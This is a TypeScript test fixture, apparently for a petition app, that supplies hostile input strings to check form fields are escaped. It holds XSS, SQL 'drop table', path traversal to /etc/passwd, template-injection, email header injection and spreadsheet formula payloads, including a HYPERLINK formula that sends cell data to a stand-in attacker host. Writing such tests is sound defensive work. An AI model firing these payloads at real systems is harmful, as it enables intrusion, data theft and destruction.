/** Who types words wherever words can be typed: somebody who means no harm, or somebody who does. */
export interface Typist {
  /** Whatever a supporter types: one line. */
  line(): string
  /** What an organiser's title, name or subject may be: nothing that cannot be seen. */
  title(): string
  /** The same where letters are made of it: their blanks and choices are read there, as they should be. */
  sentence(): string
  /** Markdown. Of its marks, which its author may use, only those that lead elsewhere. */
  prose(): string
  email(): string
  url(): string
}

/** What each attack leaves behind where it works: an element or an attribute of this name. */
export const canary = 'x-evil'

/** One line each. They are typed all together, each in its turn first, since some work at the beginning alone. */
const visible = [
  '<x-evil>a</x-evil><script>x-evil()</script>',
  '=HYPERLINK("http://x-evil.example/?"&A1,"b")',
  '" x-evil="1" onfocus="c',
  "+1+cmd|' /C calc'!A0",
  "' x-evil='1' d",
  '-2+3',
  '</title></textarea></style></script><x-evil>e</x-evil>-->',
  '@SUM(A1)',
  ']]><x-evil/><![CDATA[f',
  '\uff1d1+1',
  '{{name}} {{7+7}} {{constructor}} ${7+7} <%= 7+7 %> {% include "/etc/passwd" %}',
  '"=1+1',
  '&lt;x-evil&gt; &#60;x-evil&#62; &x-evil; &amp',
  '[h](javascript:x-evil()) [i](data:text/html,<x-evil>) <javascript:x-evil()>',
  ') Tj ET (\\) /JS (app.alert(1)) /URI (javascript:x-evil()) %%EOF',
  "'; drop table signature; --",
  '../../etc/passwd ..\\..\\windows %2e%2e%2f %00 %0d%0aSet-Cookie:x-evil=1',
  '\u05d0\u05d1 \u0627\u0644 \ud83d\udc69\u200d\ud83d\udc69\u200d\ud83d\udc67 Z\u0351\u036b\u0343\u036a\u0302\u033d',
  '=?utf-8?Q?Evil=0D=0ABcc:_all@x-evil.example?=',
  'W'.repeat(150),
] as const

/** What is Markdown where it is read as such, and must be nothing anywhere else. */
const markdown = '![j](http://x-evil.example/j.png) [k](https://x-evil.example) **l** `m` # n'

/** What forms refuse, and a store may hold all the same. */
const unseen = [
  '\t=1+1',
  '\u200b=1+1',
  '\r\n=1+1\r\nBcc: all@x-evil.example\r\n\r\n<x-evil>l</x-evil>',
  '\u202eevil\u2066 \u200f\u0000\u0008\u001b[2J\u007f\u0085\u2028\ufffe',
] as const

/** Each of them for a field of its own. */
export const attacks: readonly string[] = [...visible, markdown, ...unseen]

export function hostileTypist(): Typist {
  let turn = 0
  const from = (all: readonly string[]) => {
    const first = turn++ % all.length
    return `${[...all.slice(first), ...all.slice(0, first)].join(' ')} ${turn}`
  }
  const title = () => from([...visible, markdown])
  return {
    line: () => from(attacks),
    title,
    sentence: () => title().replace(/[{}|[\]]/g, ''),
    prose: () => `a ${from(visible)}`,
    email: () => `a=1-{{name}}&x-evil='${turn++}'@example.org`,
    url: () => `https://link.example/?x="><x-evil x-evil='${turn++}'>&lt;`,
  }
}

export function harmlessTypist(): Typist {
  let turn = 0
  const words = () => `Plain words ${turn++}`
  const email = () => `plain${turn++}@example.org`
  const url = () => `https://link.example/${turn++}`
  return { line: words, title: words, sentence: words, prose: words, email, url }
}
